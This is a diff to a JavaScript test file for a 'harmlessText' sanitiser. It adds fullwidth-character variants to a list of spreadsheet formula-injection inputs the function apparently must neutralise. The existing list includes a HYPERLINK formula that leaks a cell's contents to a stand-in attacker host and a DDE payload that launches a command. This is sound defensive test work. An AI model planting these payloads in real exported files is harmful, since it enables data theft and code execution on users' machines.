@@ -1,6 +1,8 @@
 import { harmlessText } from './harmlessText.js';
 
 it.each([
+  '＝1+1',
+  '＠SUM(1)',
   '=HYPERLINK("https://evil.example?"&A1)',
   "+cmd|' /C calc'!A0",
   '-2+3',
